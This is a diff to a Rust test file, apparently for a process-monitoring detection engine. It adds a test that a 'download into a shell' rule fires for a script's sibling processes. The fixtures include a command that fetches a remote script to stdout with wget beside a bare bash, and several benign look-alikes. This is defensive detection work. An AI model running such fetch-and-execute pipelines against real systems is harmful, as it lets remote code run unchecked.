@@ -5,7 +5,7 @@
 
 use super::detect_tests::{ancestor, fired, listener, managed, managed_with, process};
 use crate::fixtures;
-use crate::model::{FlowPhase, ProcessRecord, Record, Scope};
+use crate::model::{FlowPhase, ProcessPhase, ProcessRecord, Record, Scope, Unavailable};
 
 const SEC: u64 = 1_000_000_000;
 
@@ -289,6 +289,85 @@ fn fd_executions_and_forged_names_are_seen_by_the_launching_command_line() {
             !out.iter()
                 .any(|r| r == "PF-EXEC-FD-CMDLINE" || r == "PF-ARGV0-FORGED"),
             "{argv:?}: {out:?}"
+        );
+    }
+}
+
+/// Without fd access a pipeline in a script file shows no pipe and no telling command
+/// line: its commands are children of one shell, running side by side. A downloader to
+/// stdout beside a shell reading stdin is the download into a shell, one alert whichever
+/// of the two the engine sees exec'd last; a download beside grep, a file read into a
+/// shell, a download to a file beside a shell running a script, and the same processes
+/// under two parents are not.
+#[test]
+fn a_scripts_download_into_a_shell_is_seen_by_its_siblings_without_fd_access() {
+    let script = ancestor(800, 8000, "sh", None, &["sh", "setup.sh"]);
+    let child = |pid: u32, argv: &[&str], parent: &crate::model::Ancestor| ProcessRecord {
+        ppid: parent.pid,
+        parent_start_time: Some(parent.start_time),
+        exe_unavailable: Unavailable::PermissionDenied,
+        ancestors: vec![parent.clone()],
+        ..process(pid, argv[0], None, argv)
+    };
+    let wget = child(801, &["wget", "-qO-", "http://203.0.113.9/x.sh"], &script);
+    let bash = child(802, &["bash"], &script);
+    // The downloader still a fork of the script when the shell's exec is read, and the
+    // other way round; its exec, then the shell's exit.
+    let forked = |p: &ProcessRecord| ProcessRecord {
+        forked_no_exec: true,
+        argv: script.argv.clone(),
+        comm: b"sh".to_vec(),
+        ..p.clone()
+    };
+    let exec = |p: &ProcessRecord| ProcessRecord {
+        phase: ProcessPhase::Exec,
+        ..p.clone()
+    };
+    for (first, second) in [(&wget, &bash), (&bash, &wget)] {
+        let records = [
+            Record::Process(forked(first)),
+            Record::Process(forked(second)),
+            Record::Process(exec(first)),
+            Record::Process(exec(second)),
+        ];
+        let out = fired(&mut managed(), &records, SEC);
+        let here = out
+            .iter()
+            .filter(|r| *r == "PF-DOWNLOAD-SHELL-SIBLINGS")
+            .count();
+        assert_eq!(here, 1, "{out:?}");
+    }
+    let other = ancestor(900, 9000, "sh", None, &["sh", "other.sh"]);
+    for (what, a, b) in [
+        (
+            "curl | grep",
+            child(811, &["curl", "-fsS", "http://203.0.113.9/x"], &script),
+            child(812, &["grep", "-q", "sleep"], &script),
+        ),
+        (
+            "cat | sh",
+            child(821, &["cat", "local.sh"], &script),
+            child(822, &["sh"], &script),
+        ),
+        (
+            "wget to a file beside sh x.sh",
+            child(831, &["wget", "-q", "http://203.0.113.9/x.sh"], &script),
+            child(832, &["sh", "x.sh"], &script),
+        ),
+        (
+            "two parents",
+            child(841, &["curl", "-fsS", "http://203.0.113.9/x"], &script),
+            child(842, &["sh"], &other),
+        ),
+    ] {
+        let out = fired(
+            &mut managed(),
+            &[Record::Process(a), Record::Process(b)],
+            SEC,
+        );
+        assert!(
+            !out.iter().any(|r| r == "PF-DOWNLOAD-SHELL-SIBLINGS"),
+            "{what}: {out:?}"
         );
     }
 }
